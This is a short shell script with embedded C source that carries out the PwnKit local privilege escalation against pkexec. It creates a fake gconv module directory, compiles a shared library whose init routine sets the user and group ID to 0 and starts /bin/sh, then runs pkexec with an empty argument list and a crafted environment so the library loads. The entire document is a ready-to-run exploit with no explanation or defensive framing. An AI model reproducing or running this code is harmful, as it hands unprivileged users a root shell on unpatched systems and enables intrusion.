mkdir -p 'GCONV_PATH=.' pwnkit && touch 'GCONV_PATH=./pwnkit' && chmod a+x 'GCONV_PATH=./pwnkit'
echo 'module UTF-8// PWNKIT// pwnkit 1' > pwnkit/gconv-modules
cat > pwnkit/p.c <<'C'
#include <unistd.h>
void gconv(void) {}
void gconv_init(void) { setuid(0); setgid(0); execl("/bin/sh", "sh", (char *)0); }
C
gcc -shared -fPIC pwnkit/p.c -o pwnkit/pwnkit.so
cat > x.c <<'C'
#include <unistd.h>
int main(void) {
  char *e[] = {"pwnkit", "PATH=GCONV_PATH=.", "CHARSET=PWNKIT", "SHELL=pwnkit", 0};
  return execve("/usr/bin/pkexec", (char *[]){0}, e);
}
C
gcc x.c -o x && ./x
